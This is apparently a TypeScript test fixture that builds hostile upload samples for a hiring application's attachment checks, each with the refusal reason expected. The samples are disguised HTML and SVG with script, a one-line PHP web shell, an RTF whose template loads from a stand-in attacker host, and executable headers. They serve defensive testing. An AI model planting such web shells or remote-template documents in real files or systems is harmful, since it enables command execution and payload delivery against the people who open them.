import type { AttachmentRefusal } from '#domain/hiring/attachments.ts'
import type { HostileFile } from './upload-sample.ts'

const richText = '{\\rtf1\\ansi {\\*\\template https://evil.example/x.dotm}\\par Ich backe gern.}'
const html = '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'

const texts: [what: string, name: string, bytes: Buffer, reason: AttachmentRefusal][] = [
  ['a page as a PDF', 'a.pdf', Buffer.from(html), 'fileTypeRefused'],
  ['a page as text', 'a.txt', Buffer.from(html), 'fileTypeRefused'],
  ['a page in UTF-16', 'a.txt', Buffer.from(`\ufeff${html}`, 'utf16le'), 'fileTypeRefused'],
  ['a page at the end of a long text', 'a.txt', Buffer.from(`${'Hallo '.repeat(20_000)}< ScRiPt >`), 'fileTypeRefused'],
  [
    'an SVG as text',
    'a.txt',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'fileTypeRefused',
  ],
  ['PHP as text', 'a.txt', Buffer.from('<?php system($_GET[0]);'), 'fileTypeRefused'],
  ['rich text as text', 'a.txt', Buffer.from(`\n${richText}`), 'fileTypeRefused'],
  ['rich text as a Word document', 'a.doc', Buffer.from(richText), 'fileTypeRefused'],
  ['a program as text', 'a.txt', Buffer.from('\x7fELF\x02\x01\x01\0'), 'fileTypeRefused'],
  ['a program as a PDF', 'a.pdf', Buffer.from('MZ\x90\0\x03\0\0\0'), 'fileTypeRefused'],
  ['a PDF inside of text', 'a.txt', Buffer.from('Hallo\n%PDF-1.7\n1 0 obj<</JS(x)>>endobj\n%%EOF'), 'fileHasExtraData'],
]

export const createHostileTexts = (): HostileFile[] =>
  texts.map(([what, name, bytes, reason]) => ({ what: `text: ${what}`, name, bytes, reason }))
